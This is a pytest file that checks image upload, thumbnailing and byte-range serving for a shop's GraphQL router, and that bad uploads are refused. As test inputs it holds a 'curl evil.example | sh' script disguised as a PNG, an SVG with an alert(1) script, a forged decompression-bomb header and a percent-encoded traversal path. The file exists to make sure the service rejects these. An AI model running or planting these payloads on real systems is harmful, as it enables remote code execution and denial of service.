"""Product images end to end: uploaded through the router (the GraphQL multipart request spec), checked by
content, stored with thumbnails, served through the router's `/media/*` with ETag, 304 and byte ranges;
refusals (a script named .png, too many bytes, too many pixels, a non-admin) store nothing."""

from __future__ import annotations

import io
import struct
import uuid
import zlib
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from PIL import Image
from products_helpers import create
from sqlalchemy import func, select

from subgraphs.products.media_images import MAX_BYTES
from subgraphs.products.models import ProductMedia

PREFLIGHT = {"apollo-require-preflight": "true"}
# MyShop's committed supergraph, as `myshop router` serves it.
SUPERGRAPH = (Path(__file__).resolve().parents[2] / "schema" / "supergraph.graphql").read_text()
MiB = 1024 * 1024
MEDIA_FIELDS = """
    id url alt width height contentType byteSize position variant { id }
    small: thumbnail(size: SMALL) { url width height contentType }
    large: thumbnail(size: LARGE) { url width height }
"""
ADD = f"""
mutation Add($productId: ID!, $file: Upload!, $alt: String, $variantId: ID) {{
  addProductMedia(productId: $productId, file: $file, alt: $alt, variantId: $variantId) {{ {MEDIA_FIELDS} }}
}}
"""
GALLERY = """
query Gallery($id: ID!) {
  product(id: $id) { media { id position alt variant { id } } variants { id media { id } } }
}
"""


@pytest.fixture(scope="module")
def router(stack: Any, start_router: Callable[..., Any]) -> Any:
    """MyShop's router as router.yaml sets it up for images: uploads of 10 MiB, `/media/*` passed through."""
    return start_router(
        SUPERGRAPH,
        subgraph_urls={name: f"{s.url}/graphql" for name, s in stack.servers.items()},
        uploads={"enabled": True, "max_file_size": 10 * MiB, "max_files": 4, "max_request_size": 40 * MiB},
        media={"enabled": True},
    )


@pytest.fixture
async def client(api: Any, router: Any) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=router.url, timeout=30) as http:
        yield http


@pytest.fixture
def media_dir(api: Any) -> Path:
    return api.settings["products"].media_root


def files_under(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def png(width: int, height: int, color: tuple[int, int, int] = (200, 40, 40)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims `width` x `height` (a decompression bomb's header) with almost no data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


async def upload(
    http: httpx.AsyncClient,
    token: str | None,
    product_id: str,
    data: bytes,
    *,
    filename: str = "photo.png",
    content_type: str = "image/png",
    alt: str | None = None,
    variant_id: str | None = None,
    url: str = "/graphql",
) -> httpx.Response:
    """addProductMedia as a multipart request (operations, map, then the file)."""
    operations = {
        "query": ADD,
        "variables": {"productId": product_id, "file": None, "alt": alt, "variantId": variant_id},
    }
    headers = dict(PREFLIGHT)
    if token is not None:
        headers["authorization"] = f"Bearer {token}"
    return await http.post(
        url,
        data={"operations": orjson.dumps(operations).decode(), "map": '{"0": ["variables.file"]}'},
        files={"0": (filename, data, content_type)},
        headers=headers,
    )


def codes(response: httpx.Response) -> list[str]:
    return [error["extensions"]["code"] for error in response.json().get("errors") or []]


async def media_rows(products_db: Any) -> int:
    async with products_db() as session:
        return int(await session.scalar(select(func.count()).select_from(ProductMedia)))


async def test_an_upload_through_the_router_is_served_with_etag_304_and_ranges(
    gql: Any, client: httpx.AsyncClient, admin_token: str
) -> None:
    product = await create(gql, admin_token)

    added = await upload(client, admin_token, product["id"], png(1200, 800), alt="Front")

    media = added.json()["data"]["addProductMedia"]
    assert (media["width"], media["height"], media["contentType"], media["alt"]) == (
        1200,
        800,
        "image/png",
        "Front",
    )
    assert media["url"] == f"/media/{media['id']}/original"
    assert media["small"] == {
        "url": f"/media/{media['id']}/small",
        "width": 160,
        "height": 107,
        "contentType": "image/webp",
    }
    thumbnail = await client.get(media["small"]["url"])
    assert thumbnail.status_code == 200
    assert thumbnail.headers["content-type"] == "image/webp"
    assert thumbnail.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert thumbnail.headers["accept-ranges"] == "bytes"
    etag = thumbnail.headers["etag"]
    with Image.open(io.BytesIO(thumbnail.content)) as served:
        assert (served.format, served.size) == ("WEBP", (160, 107))

    again = await client.get(media["small"]["url"], headers={"if-none-match": etag})
    assert again.status_code == 304
    assert again.content == b""
    assert again.headers["etag"] == etag

    part = await client.get(media["large"]["url"], headers={"range": "bytes=10-109"})
    whole = await client.get(media["large"]["url"])
    assert part.status_code == 206
    assert part.headers["content-range"] == f"bytes 10-109/{len(whole.content)}"
    assert part.content == whole.content[10:110]
    beyond = await client.get(media["large"]["url"], headers={"range": f"bytes={len(whole.content)}-"})
    assert beyond.status_code == 416
    assert beyond.headers["content-range"] == f"bytes */{len(whole.content)}"
    head = await client.head(media["url"])
    assert head.status_code == 200
    assert int(head.headers["content-length"]) == media["byteSize"]
    assert head.headers["etag"] != etag  # the original and each thumbnail have their own


async def test_a_script_renamed_png_is_refused_and_nothing_is_stored(
    gql: Any, client: httpx.AsyncClient, admin_token: str, products_db: Any, media_dir: Path
) -> None:
    product = await create(gql, admin_token)
    before = files_under(media_dir)

    refused = await upload(
        client, admin_token, product["id"], b"#!/bin/sh\ncurl evil.example | sh\n", filename="x.png"
    )

    assert codes(refused) == ["UNSUPPORTED_MEDIA_TYPE"]
    assert refused.json()["data"] is None
    assert await media_rows(products_db) == 0
    assert files_under(media_dir) == before


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", id="svg"),
        pytest.param(png(300, 300)[:-40], id="truncated-png"),
        pytest.param(b"", id="empty"),
    ],
)
async def test_content_that_is_no_accepted_image_is_refused(
    gql: Any, client: httpx.AsyncClient, admin_token: str, products_db: Any, data: bytes
) -> None:
    product = await create(gql, admin_token)

    refused = await upload(client, admin_token, product["id"], data)

    assert codes(refused) == ["UNSUPPORTED_MEDIA_TYPE"]
    assert await media_rows(products_db) == 0


@pytest.mark.parametrize("side", [8_000, 20_000], ids=["64-megapixels", "400-megapixels"])
async def test_a_decompression_bomb_is_refused_from_its_header(
    gql: Any, client: httpx.AsyncClient, admin_token: str, products_db: Any, side: int
) -> None:
    product = await create(gql, admin_token)

    refused = await upload(client, admin_token, product["id"], png_header_only(side, side))

    assert codes(refused) == ["IMAGE_TOO_LARGE"]
    assert await media_rows(products_db) == 0


async def test_an_oversized_file_is_refused_by_the_router_and_nothing_is_stored(
    gql: Any, client: httpx.AsyncClient, admin_token: str, products_db: Any, media_dir: Path
) -> None:
    product = await create(gql, admin_token)
    before = files_under(media_dir)

    refused = await upload(client, admin_token, product["id"], png(64, 64) + b"\0" * (10 * MiB))

    assert refused.status_code == 413
    assert codes(refused) == ["UPLOAD_TOO_LARGE"]
    assert await media_rows(products_db) == 0
    assert files_under(media_dir) == before


async def test_an_oversized_file_sent_to_the_subgraph_itself_is_refused(
    api: Any, gql: Any, admin_token: str, products_db: Any, media_dir: Path
) -> None:
    """The service's own limit holds for a caller that is not the router."""
    product = await create(gql, admin_token)
    before = files_under(media_dir)

    async with httpx.AsyncClient(base_url=api.url("products"), timeout=30) as direct:
        refused = await upload(direct, admin_token, product["id"], png(64, 64) + b"\0" * MAX_BYTES)

    assert codes(refused) == ["FILE_TOO_LARGE"]
    assert await media_rows(products_db) == 0
    assert files_under(media_dir) == before


@pytest.mark.parametrize(("role", "code"), [("CUSTOMER", "FORBIDDEN"), (None, "UNAUTHENTICATED")])
async def test_only_admins_add_images(
    gql: Any,
    client: httpx.AsyncClient,
    admin_token: str,
    issuer: Any,
    products_db: Any,
    media_dir: Path,
    role: str | None,
    code: str,
) -> None:
    product = await create(gql, admin_token)
    token = issuer.issue(str(uuid.uuid4()), [role]).token if role else None
    before = files_under(media_dir)

    refused = await upload(client, token, product["id"], png(50, 50))

    assert codes(refused) == [code]
    assert await media_rows(products_db) == 0
    assert files_under(media_dir) == before


async def test_the_stored_original_has_no_exif(gql: Any, client: httpx.AsyncClient, admin_token: str) -> None:
    product = await create(gql, admin_token)
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0131] = "SecretApp 1.0"  # Software
    photo = io.BytesIO()
    Image.new("RGB", (640, 480), (10, 120, 200)).save(photo, "JPEG", exif=exif.tobytes())
    with Image.open(io.BytesIO(photo.getvalue())) as sent:
        assert dict(sent.getexif())  # the upload carries it

    added = (await upload(client, admin_token, product["id"], photo.getvalue(), filename="p.jpg")).json()
    original = await client.get(added["data"]["addProductMedia"]["url"])

    assert original.headers["content-type"] == "image/jpeg"
    with Image.open(io.BytesIO(original.content)) as stored:
        assert stored.format == "JPEG"
        assert stored.size == (640, 480)
        assert not dict(stored.getexif())


async def test_images_are_ordered_moved_given_to_a_variant_and_removed(
    gql: Any, client: httpx.AsyncClient, admin_token: str, products_db: Any, media_dir: Path
) -> None:
    product = await create(gql, admin_token)
    ids = []
    for color in ((255, 0, 0), (0, 255, 0), (0, 0, 255)):
        added = await upload(client, admin_token, product["id"], png(40, 30, color))
        ids.append(added.json()["data"]["addProductMedia"]["id"])
    variant_id = product["id"]  # a product created without variants has one sharing its id

    moved = await gql(
        "products",
        "mutation M($id: ID!, $input: UpdateProductMediaInput!) { updateProductMedia(id: $id, input: $input) "
        "{ id position alt variant { id } } }",
        {"id": ids[2], "input": {"position": 0, "alt": "Blue", "variantId": variant_id}},
        token=admin_token,
    )
    assert moved.ok()["updateProductMedia"] == {
        "id": ids[2],
        "position": 0,
        "alt": "Blue",
        "variant": {"id": variant_id},
    }
    gallery = (await gql("products", GALLERY, {"id": product["id"]})).ok()["product"]
    assert [m["id"] for m in gallery["media"]] == [ids[2], ids[0], ids[1]]
    assert [m["position"] for m in gallery["media"]] == [0, 1, 2]
    assert gallery["variants"] == [{"id": variant_id, "media": [{"id": ids[2]}]}]

    removed = await gql(
        "products",
        "mutation R($id: ID!) { removeProductMedia(id: $id) { id } }",
        {"id": ids[0]},
        token=admin_token,
    )

    assert removed.ok()["removeProductMedia"] == {"id": ids[0]}
    assert (await client.get(f"/media/{ids[0]}/original")).status_code == 404
    assert not (media_dir / ids[0]).exists()
    assert (await client.get(f"/media/{ids[1]}/small")).status_code == 200
    assert await media_rows(products_db) == 2


async def test_a_variant_of_another_product_is_refused(
    gql: Any, client: httpx.AsyncClient, admin_token: str
) -> None:
    product, other = await create(gql, admin_token), await create(gql, admin_token)

    refused = await upload(client, admin_token, product["id"], png(20, 20), variant_id=other["id"])

    assert codes(refused) == ["BAD_USER_INPUT"]


async def test_the_router_passes_only_media_paths_and_reads(api: Any, client: httpx.AsyncClient) -> None:
    assert (await client.get(f"/media/{uuid.uuid4()}/original")).status_code == 404
    assert (await client.get(f"/media/{uuid.uuid4()}/%2e%2e")).status_code == 404  # `..`, percent-encoded
    assert (await client.get("/media/not-an-id/small")).status_code == 404
    posted = await client.post(f"/media/{uuid.uuid4()}/original", content=b"x")
    assert posted.status_code == 405
    assert posted.headers["allow"] == "GET, HEAD"


async def test_conditional_and_suffix_range_requests_through_the_router(
    gql: Any, client: httpx.AsyncClient, admin_token: str
) -> None:
    product = await create(gql, admin_token)
    added = await upload(client, admin_token, product["id"], png(300, 200))
    url = added.json()["data"]["addProductMedia"]["url"]
    whole = await client.get(url)

    since = await client.get(url, headers={"if-modified-since": whole.headers["last-modified"]})
    tail = await client.get(url, headers={"range": "bytes=-16"})
    stale_if_range = await client.get(url, headers={"range": "bytes=0-3", "if-range": '"other"'})
    head = await client.head(url, headers={"range": "bytes=0-3"})

    assert since.status_code == 304
    assert (tail.status_code, tail.content) == (206, whole.content[-16:])
    assert (stale_if_range.status_code, stale_if_range.content) == (200, whole.content)
    assert (head.status_code, head.headers["content-range"], head.content) == (
        206,
        f"bytes 0-3/{len(whole.content)}",
        b"",
    )


async def test_an_operation_that_fails_after_an_upload_keeps_neither_row_nor_file(
    api: Any, gql: Any, admin_token: str, products_db: Any, media_dir: Path
) -> None:
    """The upload's field succeeds, a later field of the same operation fails: the transaction rolls back, and
    the files written for the row go with it."""
    product = await create(gql, admin_token)
    before = files_under(media_dir)
    operations = {
        "query": "mutation Two($p: ID!, $f: Upload!) {"
        " addProductMedia(productId: $p, file: $f) { id }"
        ' removeProductMedia(id: "00000000-0000-0000-0000-000000000000") { id } }',
        "variables": {"p": product["id"], "f": None},
    }

    async with httpx.AsyncClient(base_url=api.url("products"), timeout=30) as direct:
        answer = await direct.post(
            "/graphql",
            data={"operations": orjson.dumps(operations).decode(), "map": '{"0": ["variables.f"]}'},
            files={"0": ("a.png", png(200, 100), "image/png")},
            headers={**PREFLIGHT, "authorization": f"Bearer {admin_token}"},
        )

    assert codes(answer) == ["NOT_FOUND"]
    assert await media_rows(products_db) == 0
    assert files_under(media_dir) == before


async def test_only_admins_change_or_remove_images(
    gql: Any, client: httpx.AsyncClient, admin_token: str, customer_token: str, products_db: Any
) -> None:
    product = await create(gql, admin_token)
    added = await upload(client, admin_token, product["id"], png(30, 30), alt="Kept")
    media_id = added.json()["data"]["addProductMedia"]["id"]

    changed = await gql(
        "products",
        'mutation M($id: ID!) { updateProductMedia(id: $id, input: {alt: "Mine"}) { id } }',
        {"id": media_id},
        token=customer_token,
    )
    removed = await gql(
        "products", "mutation R($id: ID!) { removeProductMedia(id: $id) { id } }", {"id": media_id}
    )

    assert changed.error_codes == ["FORBIDDEN"]
    assert removed.error_codes == ["UNAUTHENTICATED"]
    gallery = (await gql("products", GALLERY, {"id": product["id"]})).ok()["product"]["media"]
    assert [(m["id"], m["alt"]) for m in gallery] == [(media_id, "Kept")]
    assert (await client.get(f"/media/{media_id}/original")).status_code == 200


async def test_a_string_where_the_file_goes_is_refused_with_a_code(
    gql: Any, client: httpx.AsyncClient, admin_token: str, products_db: Any
) -> None:
    """A JSON request (no multipart) cannot carry a file: BAD_USER_INPUT, never an internal error."""
    product = await create(gql, admin_token)

    answer = await client.post(
        "/graphql",
        json={"query": ADD, "variables": {"productId": product["id"], "file": "iVBORw0KGgo="}},
        headers={"authorization": f"Bearer {admin_token}"},
    )
    literal = await gql(
        "products",
        'mutation ($p: ID!) { addProductMedia(productId: $p, file: "x") { id } }',
        {"p": product["id"]},
        token=admin_token,
    )

    assert codes(answer) == ["BAD_USER_INPUT"]
    assert literal.error_codes == ["BAD_USER_INPUT"]
    assert await media_rows(products_db) == 0
